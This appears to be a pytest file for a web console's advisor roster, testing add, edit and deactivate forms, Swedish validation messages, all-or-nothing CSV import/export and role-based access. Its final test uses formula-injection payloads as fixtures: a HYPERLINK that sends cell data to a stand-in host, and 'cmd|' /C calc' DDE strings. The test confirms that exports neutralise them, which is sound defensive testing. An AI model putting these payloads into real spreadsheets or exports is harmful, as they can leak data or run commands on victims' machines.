"""The roster in the console: add, edit, deactivate; import and export CSV with the same
row-and-field errors as the CLI, all or nothing."""

from __future__ import annotations

from bot.storage.advisors import export_roster
from bot.storage.db import Database

GOOD_CSV = (
    "key,name,node,email,expertise,languages,capacity,is_coordinator,active\n"
    "new-1,Nya Rådgivare,tranas,ny@example.org,food_beverage;financing,sv;en,4,no,yes\n"
)
BAD_CSV = (
    "key,name,node,email,expertise,languages,capacity,is_coordinator,active\n"
    "ok-1,Okej,tranas,,food_beverage,sv,4,no,yes\n"
    "bad-1,Fel,atlantis,,unicorns,sv,-3,no,yes\n"
)


async def test_a_coordinator_adds_edits_and_deactivates_an_advisor(
    browsers, people, db: Database
) -> None:  # type: ignore[no-untyped-def]
    cora = await browsers("cora@example.org")
    assert "var-1" in (await cora.get("/console/roster")).text
    token = await cora.csrf("/console/roster/new")
    base = {
        "csrf": token,
        "new": "yes",
        "key": "nya-1",
        "name": "Nya <b>Namn</b>",
        "node": "atlantis",
        "capacity": "-1",
        "languages": "sv",
    }
    bad = await cora.client.post("/console/roster/advisors", data=base)
    # Beside the field and in the summary, in Swedish; the values as entered are kept.
    assert bad.status_code == 400 and "Talet kan inte vara negativt." in bad.text
    assert 'id="a-capacity-error"' in bad.text and 'aria-describedby="a-capacity-error"' in bad.text
    assert 'href="#a-capacity">Kapacitet (pågående ärenden)</a>' in bad.text
    assert 'value="nya-1"' in bad.text and "field capacity" not in bad.text
    assert "&lt;b&gt;" in bad.text
    nowhere = await cora.client.post("/console/roster/advisors", data=base | {"capacity": "4"})
    assert nowhere.status_code == 400 and "Välj en nod i listan." in nowhere.text
    assert "nya-1" not in {a.key for a in await export_roster(db)}
    good = await cora.client.post(
        "/console/roster/advisors",
        data=base
        | {"node": "tranas", "capacity": "4", "expertise": "food_beverage", "active": "yes"},
    )
    assert good.status_code == 303 and "ok=advisor_saved" in good.headers["location"]
    twice = await cora.client.post(
        "/console/roster/advisors", data=base | {"node": "tranas", "capacity": "4"}
    )
    assert twice.status_code == 400 and "Nyckeln nya-1 finns redan i rådgivarlistan" in twice.text
    edit = await cora.get("/console/roster/advisors/nya-1")
    assert edit.status_code == 200 and 'value="nya-1" readonly' in edit.text
    # Every language founders may use can be ticked (routing prefers one who speaks it).
    for code, name in (("ar", "arabiska"), ("so", "somaliska"), ("pl", "polska")):
        assert f'value="{code}" id="l-{code}"' in edit.text and name in edit.text
    arabic = await cora.client.post(
        "/console/roster/advisors",
        data={
            "csrf": token, "new": "no", "key": "nya-1", "name": "Nya Namn", "node": "tranas",
            "capacity": "4", "languages": ["sv", "ar"], "active": "yes",
        },
    )  # fmt: skip
    assert arabic.status_code == 303
    saved = {a.key: a for a in await export_roster(db)}["nya-1"]
    assert [str(code) for code in saved.languages] == ["sv", "ar"]
    off = await cora.client.post(
        "/console/roster/advisors",
        data={
            "csrf": token,
            "new": "no",
            "key": "nya-1",
            "name": "Nya Namn",
            "node": "tranas",
            "capacity": "4",
            "languages": "sv",
        },  # the "active" box left unticked
    )
    assert off.status_code == 303
    saved = {a.key: a for a in await export_roster(db)}["nya-1"]
    assert saved.active is False and saved.name == "Nya Namn"
    assert (await cora.get("/console/roster/advisors/nobody")).status_code == 404


async def test_import_is_all_or_nothing_with_the_cli_errors(browsers, people, db) -> None:  # type: ignore[no-untyped-def]
    cora = await browsers("cora@example.org")
    token = await cora.csrf("/console/roster")
    before = await export_roster(db)
    bad = await cora.client.post(
        "/console/roster/import",
        data={"csrf": token},
        files={"file": ("roster.csv", BAD_CSV.encode(), "text/csv")},
    )
    assert bad.status_code == 400
    assert "Rad 3, Kapacitet (pågående ärenden): Talet kan inte vara negativt." in bad.text
    assert await export_roster(db) == before
    wrong_kind = await cora.client.post(
        "/console/roster/import",
        data={"csrf": token},
        files={"file": ("roster.xlsx", b"PK\x03\x04", "application/octet-stream")},
    )
    assert wrong_kind.status_code == 400
    good = await cora.client.post(
        "/console/roster/import",
        data={"csrf": token},
        files={"file": ("roster.csv", GOOD_CSV.encode(), "text/csv")},
    )
    assert good.status_code == 200 and "1 created" in good.text
    exported = await cora.get("/console/roster.csv")
    assert exported.headers["content-type"].startswith("text/csv")
    assert "new-1,Nya Rådgivare,tranas" in exported.text


async def test_advisors_have_no_roster_page(browsers, people) -> None:  # type: ignore[no-untyped-def]
    vera = await browsers("vera@example.org")
    assert (await vera.get("/console/roster")).status_code == 403
    assert (await vera.get("/console/roster.csv")).status_code == 403


FORMULAS_CSV = (
    "key,name,node,email,expertise,languages,capacity,is_coordinator,active\n"
    'f-1,"=HYPERLINK(""http://evil.example/?""&A1,""klicka"")",tranas,,,sv,4,no,yes\n'
    "f-2,+cmd|' /C calc'!A0,tranas,,,sv,4,no,yes\n"
    "f-3,@SUM(1+1)*cmd|' /C calc'!A0,tranas,,,sv,4,no,yes\n"
    "f-4,-2+3+cmd|' /C calc'!A0,tranas,,,sv,4,no,yes\n"
)


async def test_formulas_in_an_imported_roster_come_back_inert_and_import_again_unchanged(
    browsers, people, db: Database
) -> None:  # type: ignore[no-untyped-def]
    """OWASP's CSV-injection rule: a cell starting with = + - @ (or a tab or carriage
    return) is written with a leading apostrophe, so a spreadsheet shows it as text."""
    import csv
    import io

    cora = await browsers("cora@example.org")
    token = await cora.csrf("/console/roster")
    imported = await cora.client.post(
        "/console/roster/import",
        data={"csrf": token},
        files={"file": ("roster.csv", FORMULAS_CSV.encode(), "text/csv")},
    )
    assert imported.status_code == 200, imported.text
    names = {a.key: a.name for a in await export_roster(db)}
    assert names["f-1"].startswith("=HYPERLINK(")  # stored as typed
    exported = (await cora.get("/console/roster.csv")).text
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in exported and "'+cmd|" in exported and "'@SUM(" in exported
    # The export imports again unchanged: the apostrophe is the file's, not the name's.
    again = await cora.client.post(
        "/console/roster/import",
        data={"csrf": token},
        files={"file": ("roster.csv", exported.encode(), "text/csv")},
    )
    assert again.status_code == 200, again.text
    assert {a.key: a.name for a in await export_roster(db)} == names
